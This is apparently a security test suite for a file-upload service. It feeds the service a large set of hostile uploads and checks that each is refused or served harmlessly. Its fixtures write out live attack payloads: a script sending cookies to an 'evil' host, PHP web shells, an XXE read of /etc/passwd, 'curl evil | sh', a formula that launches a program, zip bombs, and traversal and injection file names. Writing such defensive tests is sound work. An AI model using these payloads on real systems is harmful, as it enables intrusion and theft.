import { readdirSync, statSync } from "node:fs";
import { join } from "node:path";
import { deflateRawSync } from "node:zlib";
import { CFB, utils, write } from "@e965/xlsx";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openTestWorld } from "#main/testing.ts";
import { newId } from "#platform/server/clock.ts";
import {
  type FixturePart,
  repeated,
  zipFixture,
} from "#platform/server/files/spreadsheet/hostile-files.ts";
import { headersOf, type TestPerson } from "#platform/testing/people.ts";
import type { World } from "#platform/testing/world.ts";
import { attachment } from "../contract.ts";

/** What must become of a file: shown in place, kept as a download, or refused with a code. */
type Outcome = "inline" | "download" | "1301" | "1302" | "1303" | "1304" | "0413";

interface Hostile {
  readonly what: string;
  readonly content: Buffer;
  readonly outcome: Outcome;
  /** As it stands in the request. */
  readonly fileName?: string | Buffer;
}

const latin = (text: string) => Buffer.from(text, "latin1");
const wide = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");
const many = (byte: string, count: number) => byte.repeat(count);
const megabyte = 1024 * 1024;

const script = "<script>fetch('//evil/'+document.cookie)</script>";
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const page = `<!DOCTYPE html><html><body>${script}</body></html>`;
const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const jpegHead = "\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0";
const mp4 = latin(`\0\0\0\x18ftypisom\0\0\x02\0isomiso2${many("\0", 64)}`);
const webm = latin(`\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\x82\x84webm${many("\0", 64)}`);
const pdf = (inside = "") => latin(`%PDF-1.7\n1 0 obj<</Type/Catalog${inside}>>endobj\n%%EOF`);

const big = (width: number, height: number) => {
  const bytes = Buffer.from(png);
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
};

const main = (what: string) =>
  `<Override PartName="/main.xml" ContentType="application/vnd.openxmlformats-officedocument.${what}.main+xml"/>`;
const office = (declared: string, ...more: FixturePart[]) =>
  zipFixture([
    { name: "[Content_Types].xml", content: `<Types>${declared}</Types>` },
    { name: "main.xml", content: "<main/>" },
    ...more,
  ]);
const docx = main("wordprocessingml.document");
const xlsx = main("spreadsheetml.sheet");
const vba = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>';
const macroEnabled =
  '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>';

/** The parts of the OLE library that are used here; it comes without types. */
const ole = CFB as unknown as {
  read(from: Buffer, options: { type: "buffer" }): object;
  write(container: object, options: { type: "buffer" }): Buffer;
  utils: { cfb_new(): object; cfb_add(container: object, path: string, content: Buffer): void };
};
function oleOf(paths: readonly string[], container = ole.utils.cfb_new()): Buffer {
  for (const path of paths) ole.utils.cfb_add(container, path, Buffer.from("x".repeat(5000)));
  return Buffer.from(ole.write(container, { type: "buffer" }));
}
function xls(...paths: string[]): Buffer {
  const book = { SheetNames: ["a"], Sheets: { a: utils.aoa_to_sheet([["金额", 1]]) } };
  const made = write(book, { type: "buffer", bookType: "biff8" }) as Buffer;
  return oleOf(paths, ole.read(made, { type: "buffer" }));
}
/** The same with its sheet marked as one of Excel 4 macros. */
function macroSheet(): Buffer {
  const made = xls();
  const record = /\x85\0.\0.{4}(?=\0\0)/s.exec(made.toString("latin1"));
  if (!record) throw new Error("no sheet in the workbook");
  made.writeUInt8(1, record.index + record[0].length + 1);
  return made;
}

const markup: Hostile[] = [
  { what: "SVG with script", content: latin(svg), fileName: "logo.svg" },
  { what: "SVG named .png", content: latin(svg), fileName: "logo.png" },
  { what: "SVG after spaces and a comment", content: latin(` \n<!-- x -->${svg}`) },
  { what: "SVG after a byte order mark", content: Buffer.from(`\ufeff${svg}`) },
  { what: "SVG in UTF-16", content: wide(svg) },
  { what: "SVG with a stylesheet", content: latin(`<?xml-stylesheet href="x.xsl"?>${svg}`) },
  { what: "HTML named .png", content: latin(page), fileName: "photo.png" },
  { what: "HTML named .pdf", content: latin(page), fileName: "contract.pdf" },
  { what: "HTML in UTF-16", content: wide(page) },
  { what: "HTML after a page of spaces", content: latin(many(" ", 5000) + page) },
  { what: "HTML after harmless words", content: latin(`hello ${script}`) },
  { what: "HTML that says ftyp", content: latin(`<!--ftypisom-->${page}`) },
  { what: "HTML that says WEBP", content: latin(`<script>WEBPVP8 </script>`) },
  { what: "HTML with a PDF inside", content: Buffer.concat([latin(page), pdf()]) },
  { what: "XHTML", content: latin(`<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`) },
  { what: "MHTML", content: latin(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}`) },
  { what: "an HTML application", content: latin("<hta:application id=x>") },
  {
    what: "XML with a DTD that reads a file",
    content: latin(
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>',
    ),
  },
  {
    what: "a billion laughs",
    content: latin('<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'),
  },
  { what: "XSL", content: latin("<xsl:stylesheet version='1.0'/>") },
  { what: "PHP", content: latin("<?php system($_GET['c']);"), fileName: "x.php" },
  { what: "PHP named .png", content: latin("ok <?= `id` ?>"), fileName: "x.png" },
  { what: "a server page", content: latin("text <% Runtime.getRuntime().exec(x) %>") },
].map((file) => ({ ...file, outcome: "1301" }) as const);

const programs: Hostile[] = [
  { what: "a program for Windows", content: latin(`MZ\x90\0\x03\0\0\0${many("\0", 200)}`) },
  { what: "one named .pdf", content: latin(`MZ\x90\0\x03${many("\0", 200)}`), fileName: "a.pdf" },
  { what: "one with a PDF behind", content: Buffer.concat([latin("MZ\x90\0"), pdf()]) },
  { what: "a program for Linux", content: latin(`\x7fELF\x02\x01\x01${many("\0", 60)}`) },
  { what: "a program for macOS", content: latin(`\xcf\xfa\xed\xfe\x07\0\0\x01${many("\0", 60)}`) },
  { what: "a class of Java", content: latin("\xca\xfe\xba\xbe\0\0\0\x34") },
  { what: "WebAssembly", content: latin("\0asm\x01\0\0\0") },
  { what: "a program for Android", content: latin("dex\n035\0") },
  { what: "a shortcut of Windows", content: latin("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0") },
  { what: "a Debian package", content: latin("!<arch>\ndebian-binary   \0") },
  { what: "an installer", content: oleOf(["/Property", "/_StringData"]) },
  { what: "a shell script", content: latin("#!/bin/sh\ncurl evil | sh\n"), fileName: "a.txt" },
  { what: "a batch file", content: latin("@echo off\r\nformat c:\r\n") },
  { what: "PowerShell", content: latin("Invoke-Expression (New-Object Net.WebClient)") },
  { what: "VBScript", content: latin('Set s = CreateObject("WScript.Shell")') },
  { what: "JavaScript", content: latin("(function(){fetch('//evil')})()"), fileName: "a.js" },
  { what: "Python", content: latin("#!/usr/bin/env python3\nimport os\n") },
  { what: "a link file", content: latin("[InternetShortcut]\r\nURL=file://evil/x") },
  { what: "a registry file", content: latin("Windows Registry Editor Version 5.00\r\n") },
  { what: "RTF with an object", content: latin("{\\rtf1{\\object\\objdata 0105}}") },
  { what: "PostScript", content: latin("%!PS-Adobe-3.0\n(x) run") },
  { what: "a table whose cell starts a program", content: latin("a,=cmd|' /C calc'!A0\r\n") },
  { what: "Flash", content: latin("CWS\x0a\0\0\0\0\0\0") },
  { what: "RAR", content: latin("Rar!\x1a\x07\x01\0") },
  { what: "7z", content: latin("7z\xbc\xaf\x27\x1c\0\x04") },
  { what: "gzip", content: latin("\x1f\x8b\x08\0\0\0\0\0") },
].map((file) => ({ ...file, outcome: "1301" }) as const);

const part = (name: string, content = "x"): FixturePart => ({ name, content });
const packages: Hostile[] = [
  { what: "an archive of papers", content: zipFixture([part("a.pdf")]), outcome: "download" },
  { what: "an archive with a program", content: zipFixture([part("a.exe")]), outcome: "1302" },
  { what: "an archive with a page", content: zipFixture([part("a.html", page)]), outcome: "1302" },
  { what: "an archive in an archive", content: zipFixture([part("a.zip")]), outcome: "1302" },
  {
    what: "an encrypted archive",
    content: zipFixture([{ name: "a.txt", content: "x", flags: 1 }]),
    outcome: "1302",
  },
  {
    what: "a Java archive",
    content: zipFixture([part("META-INF/MANIFEST.MF"), part("A.class")]),
    outcome: "1302",
  },
  {
    what: "a Java archive without classes, named .docx",
    content: zipFixture([part("META-INF/MANIFEST.MF")]),
    fileName: "a.docx",
    outcome: "1301",
  },
  { what: "an archive that climbs out", content: zipFixture([part("../../x")]), outcome: "1301" },
  { what: "an archive with a root", content: zipFixture([part("/etc/x")]), outcome: "1301" },
  {
    what: "a zip bomb",
    content: zipFixture([{ ...repeated(many("0", megabyte), 300), name: "a.txt" }]),
    outcome: "1301",
  },
  {
    what: "a zip bomb of overlapping parts",
    content: zipFixture(
      Array.from({ length: 50 }, (_, index) => ({
        name: `${index}.txt`,
        packed: index === 0 ? deflateRawSync(Buffer.alloc(9000, "ab")) : Buffer.alloc(0),
        size: 9 * megabyte,
        offset: 0,
      })),
    ),
    outcome: "1301",
  },
  {
    what: "an archive of 20,000 parts",
    content: zipFixture(Array.from({ length: 20_000 }, (_, index) => part(String(index), ""))),
    outcome: "1301",
  },
  {
    what: "an archive that says one name twice",
    content: zipFixture([part("a.txt"), part("A.txt")]),
    outcome: "1301",
  },
  { what: "an archive cut off", content: zipFixture([part("a")]).subarray(0, -9), outcome: "1301" },
  { what: "an e-book", content: zipFixture([part("mimetype")]), outcome: "1301" },
  { what: "a document", content: office(docx), fileName: "a.docx", outcome: "download" },
  {
    what: "a document named .html",
    content: office(docx),
    fileName: "a.html",
    outcome: "download",
  },
  {
    what: "a document with macros",
    content: office(docx + macroEnabled + vba, part("word/vbaProject.bin")),
    fileName: "a.docm",
    outcome: "1302",
  },
  {
    what: "a document with macros, named .docx",
    content: office(docx, part("word/vbaProject.bin")),
    fileName: "a.docx",
    outcome: "1302",
  },
  {
    what: "a document with macros under another name",
    content: office(docx + vba, part("word/printer.bin")),
    outcome: "1302",
  },
  {
    what: "a document whose macros hide behind an entity",
    content: office(docx + vba.replace("vbaP", "vba&#80;"), part("word/x.bin")),
    outcome: "1301",
  },
  {
    what: "a table with Excel 4 macros",
    content: office(xlsx, part("xl/macrosheets/sheet1.xml")),
    outcome: "1302",
  },
  { what: "an older table", content: xls(), fileName: "a.xls", outcome: "download" },
  { what: "one with VBA", content: xls("/_VBA_PROJECT_CUR/VBA/_VBA_PROJECT"), outcome: "1302" },
  { what: "one with Excel 4 macros", content: macroSheet(), outcome: "1302" },
  { what: "an older document", content: oleOf(["/WordDocument"]), outcome: "download" },
  {
    what: "one with macros",
    content: oleOf(["/WordDocument", "/Macros/VBA/_vba_project"]),
    outcome: "1302",
  },
  { what: "a locked document", content: oleOf(["/EncryptedPackage"]), outcome: "1302" },
  { what: "an older presentation", content: oleOf(["/PowerPoint Document"]), outcome: "1301" },
];

const pictures: Hostile[] = [
  { what: "PNG with a page behind it", content: Buffer.concat([png, latin(page)]) },
  { what: "PNG with an archive behind it", content: Buffer.concat([png, zipFixture([])]) },
  { what: "PNG named .html", content: png, fileName: "x.html" },
  { what: "PNG named .svg", content: png, fileName: "x.svg" },
  { what: "GIF that is a script too", content: latin("GIF89a/*\0\0*/=1;alert(document.cookie)//") },
  { what: "GIF with a page in its comment", content: latin(`GIF89a\x01\0\x01\0\x21\xfe${page}`) },
  { what: "JPEG with a page in its comment", content: latin(`${jpegHead}\xff\xfe\0\x99${page}`) },
  { what: "JPEG with PHP behind it", content: latin(`${jpegHead}<?php system('id');`) },
  { what: "WebP with a script", content: latin(`RIFF\x24\0\0\0WEBPVP8 ${script}`) },
  { what: "PDF", content: pdf() },
  { what: "PDF with script", content: pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>") },
  { what: "PDF with a page behind it", content: Buffer.concat([pdf(), latin(page)]) },
  { what: "PDF named .html", content: pdf(), fileName: "x.html" },
  { what: "video with a page behind it", content: Buffer.concat([mp4, latin(page)]) },
  { what: "WebM with a page behind it", content: Buffer.concat([webm, latin(page)]) },
].map((file) => ({ ...file, outcome: "inline" }) as const);

const sizes: Hostile[] = [
  { what: "nothing", content: Buffer.alloc(0), outcome: "1303" },
  { what: "a single letter", content: latin("x"), outcome: "download" },
  { what: "a single zero byte", content: Buffer.alloc(1), outcome: "1301" },
  { what: "51 MB", content: Buffer.alloc(51 * megabyte, "x"), outcome: "0413" },
  { what: "a PNG of ten thousand million dots", content: big(100_000, 100_000), outcome: "1304" },
  { what: "a PNG as wide as can be said", content: big(0xffffffff, 2), outcome: "1304" },
  { what: "a GIF as large as can be", content: latin("GIF89a\xff\xff\xff\xff"), outcome: "1304" },
];

const names: Hostile[] = [
  "../../../etc/passwd",
  "..\\..\\windows\\system32\\x.png",
  "/etc/cron.d/evil",
  "C:\\boot.ini",
  "\\\\server\\share\\x.png",
  "%2e%2e%2fx.png",
  "..",
  ".",
  "",
  " ",
  ".htaccess",
  "x.png\0.html",
  "\u202Egnp.exe",
  "x\u200b.png",
  `${many("长", 300)}.png`,
  `${many("a", 300)}.html`,
  many("𠮷", 300),
  "👩‍💻.png",
  "é ñ ü — “引号”.png",
  "<img src=x onerror=alert(1)>.png",
  "'; drop table files; --.png",
  "a'b(c)*d!.png",
  "x.png; filename=y.html",
  "CON",
  "x.html.",
  "x.html ",
  "__proto__",
  "${7*7}{{7*7}}.png",
  Buffer.from([0x61, 0xff, 0xfe, 0x80, 0x2e, 0x70, 0x6e, 0x67]),
  Buffer.from([0xed, 0xa0, 0x80, 0x2e, 0x70, 0x6e, 0x67]),
].map((fileName) => ({
  what: `PNG named ${JSON.stringify(fileName.toString("utf8").slice(0, 40))}`,
  content: png,
  fileName,
  outcome: "inline",
}));

const corpus = [...markup, ...programs, ...packages, ...pictures, ...sizes, ...names];
const isKept = ({ outcome }: Hostile) => outcome === "inline" || outcome === "download";

let world: World;
let actor: TestPerson;
let neighbour: TestPerson;

beforeAll(async () => {
  world = await openTestWorld();
  actor = await world.person(await world.tenant(), []);
  neighbour = await world.person(await world.tenant());
});
afterAll(() => world.close());

function requestFor({ content, fileName = "upload.bin" }: Hostile) {
  const quoted = Buffer.from(fileName as string);
  return {
    method: "POST" as const,
    url: attachment.upload.path,
    headers: {
      ...headersOf(actor, newId()),
      "content-type": "multipart/form-data; boundary=frontier",
    },
    payload: Buffer.concat([
      latin('--frontier\r\ncontent-disposition: form-data; name="file"; filename="'),
      quoted,
      latin('"\r\ncontent-type: text/html\r\n\r\n'),
      content,
      latin("\r\n--frontier--\r\n"),
    ]),
  };
}

interface Row {
  readonly name: string;
  readonly store_key: string;
  readonly content_type: string;
}

async function rowsOfTenant(): Promise<Row[]> {
  const sql =
    "select name, store_key, content_type from files where tenant_id = $1 order by created_at desc, id desc";
  return (await world.database.admin.query<Row>(sql, [actor.tenantId])).rows;
}

const inStore = () =>
  readdirSync(world.config.FILE_FOLDER, { recursive: true, encoding: "utf8" }).filter((path) =>
    statSync(join(world.config.FILE_FOLDER, path)).isFile(),
  );

const harmless =
  /^(image\/(png|jpeg|gif|webp|heic)|video\/(mp4|webm)|application\/(pdf|zip|ofd|msword|vnd\.ms-excel|vnd\.openxmlformats-officedocument\.\w+\.\w+)|text\/plain)$/;
const harmlessName =
  /^(?![.\s])[^\p{C}/\\<>:"|?*]{1,99}(?<![.\s])\.(png|jpg|gif|webp|heic|mp4|webm|pdf|zip|ofd|docx?|xlsx?|pptx|txt)$/u;

describe(`${corpus.length} files that mean harm`, () => {
  it("are many enough to mean something", () => {
    expect(corpus.length).toBeGreaterThanOrEqual(120);
  });

  it.each(corpus.filter((file) => !isKept(file)))("$what: refused with $outcome", async (file) => {
    const before = await rowsOfTenant();
    const response = await world.server.inject(requestFor(file));
    expect(response.json()).toMatchObject({ code: file.outcome, data: null });
    expect(await rowsOfTenant()).toEqual(before);
    expect(inStore()).toHaveLength(before.length);
  });

  it.each(corpus.filter(isKept))("$what: $outcome, where it can do nothing", async (file) => {
    const uploaded = await world.server.inject(requestFor(file));
    const { code, data } = uploaded.json<{ code: string; data: { id: string } }>();
    expect(code).toBe("0");
    const { headers, rawPayload } = await world.server.inject({
      url: attachment.content.path.replace("{id}", data.id),
      headers: headersOf(actor),
    });
    expect(rawPayload.equals(file.content)).toBe(true);
    const told = String(headers["content-disposition"]);
    const [disposition = "", name = ""] = told.split("; filename*=UTF-8''");
    expect(disposition).toBe(file.outcome === "inline" ? "inline" : "attachment");
    expect(headers["content-type"]).toMatch(harmless);
    expect(name).toMatch(/^[\w.!~%-]+$/);
    expect(decodeURIComponent(name)).toMatch(harmlessName);
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["content-security-policy"]).toMatch(/^default-src 'none';.*; sandbox$/);
    expect(headers["x-frame-options"]).toBe("DENY");
  });

  it("are stored under keys of our own, in which no name from a request ever appears", async () => {
    const rows = await rowsOfTenant();
    const uuid = "[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}";
    for (const row of rows) expect(row.store_key).toMatch(new RegExp(`^${uuid}/${uuid}$`));
    expect(inStore().toSorted()).toEqual(rows.map((row) => row.store_key).toSorted());
  });

  it("are out of another tenant's reach, each of them", async () => {
    for (const { store_key } of await rowsOfTenant()) {
      const id = store_key.split("/")[1] ?? "";
      for (const endpoint of [attachment.detail, attachment.content]) {
        const answer = await world.call(endpoint, { id }, { as: neighbour });
        expect(answer.code).toBe("0404");
      }
    }
  });
});
